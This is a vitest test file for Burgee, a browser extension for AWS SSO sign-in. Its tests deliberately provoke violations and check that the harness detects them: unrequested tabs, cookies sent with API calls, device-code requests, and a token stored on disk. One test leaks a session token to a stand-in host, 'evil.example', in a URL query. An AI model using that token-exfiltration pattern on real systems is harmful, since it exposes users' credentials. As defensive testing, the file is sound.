import { rm } from 'node:fs/promises';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { type Simulator, startSimulator } from '../simulator/simulator';
import { type Burgee, launchBurgee } from './browser';
import { startUrl } from './console';
import { isLong } from './how-long';
import { openLauncher, tellWorker, wakeWorker } from './launcher';

const api = 'https://portal.sso.eu-west-1.amazonaws.com';

/** Each breaks a promise in Burgee's name: a count that can't rise would be worth nothing. */
describe('closing a browser fails where Burgee', () => {
  let simulator: Simulator;
  let burgee: Burgee;

  beforeEach(async () => {
    simulator = await startSimulator({ world: 'small' });
    burgee = await launchBurgee({ simulator });
    await burgee.signInAtPortal(startUrl);
  });
  afterEach(async () => {
    await burgee.close();
    await rm(burgee.profile, { recursive: true, force: true });
    await simulator.close();
  });

  const token = (): string => [...simulator.apiSessions.keys()][0] ?? '';

  /** Opens a tab as the worker does, and waits until it is there. */
  async function open(url: string): Promise<void> {
    const opened = burgee.context.waitForEvent('page');
    await (await burgee.worker()).evaluate(openTab, url);
    await (await opened).waitForURL(/^https:/);
  }

  test('opened a sign-in tab by itself', async () => {
    await open(`${startUrl}/`);
    await expect(burgee.close()).rejects.toThrow(`opened ${startUrl}/ without a click`);
  });

  test.runIf(isLong)('opened a second one for one click', async () => {
    const options = await burgee.openPage('options.html');
    await options.getByRole('button', { name: 'Sign out' }).click();
    const opened = burgee.context.waitForEvent('page');
    await options.getByRole('button', { name: 'Sign in with AWS' }).click();
    const tab = await opened;
    await tab.locator('#allow').waitFor();
    await open(tab.url());
    await expect(burgee.close()).rejects.toThrow(
      'Burgee opened https://oidc.eu-west-1.amazonaws.com/authorize without a click',
    );
  });

  test.runIf(isLong)('opened one for a click that was not on a page of its own', async () => {
    await tellWorker(await openLauncher(burgee), 'openPortal', { portal: startUrl });
    await expect.poll(() => burgee.context.pages().filter((page) => page.url().startsWith(startUrl)).length).toBe(2);
    await expect(burgee.close()).rejects.toThrow(`opened ${startUrl}/ without a click`);
  });

  test.runIf(isLong)('sent a cookie along with a call', async () => {
    await burgee.context.addCookies([{ name: 'a', value: 'b', url: `${api}/`, secure: true, sameSite: 'None' }]);
    const call = { url: `${api}/assignment/accounts`, token: token() };
    await (await burgee.worker()).evaluate(callWithCookies, call);
    await expect(burgee.close()).rejects.toThrow(
      'sent cookies with ListAccounts to portal.sso.eu-west-1.amazonaws.com',
    );
  });

  test.runIf(isLong)('told a token to another host', async () => {
    burgee.personActs();
    await open(`https://evil.example/?token=${token()}`);
    await expect(burgee.close()).rejects.toThrow('sent a secret to evil.example/');
  });

  test.runIf(isLong)('asked for a device code', async () => {
    const url = 'https://oidc.eu-west-1.amazonaws.com/device_authorization';
    await (await burgee.worker()).evaluate((address) => fetch(address, { method: 'POST', body: '{}' }), url);
    await expect(burgee.close()).rejects.toThrow('asked oidc.eu-west-1.amazonaws.com for a device code');
  });

  test('left a token on the disk', async () => {
    await wakeWorker(await openLauncher(burgee));
    await (await burgee.worker()).evaluate(store, token());
    await expect(burgee.close()).rejects.toThrow('left a secret on the disk in');
  });
});

/** Runs in the worker. */
async function openTab(url: string): Promise<void> {
  const { tabs } = Reflect.get(globalThis, 'chrome') as { tabs: { create(what: object): Promise<unknown> } };
  await tabs.create({ url });
}

/** Runs in the worker. */
async function callWithCookies({ url, token }: { url: string; token: string }): Promise<void> {
  await fetch(url, { credentials: 'include', headers: { 'x-amz-sso_bearer_token': token } });
}

/** Runs in the worker. */
async function store(token: string): Promise<void> {
  const { storage } = Reflect.get(globalThis, 'chrome') as { storage: { local: { set(what: object): Promise<void> } } };
  await storage.local.set({ kept: token });
}
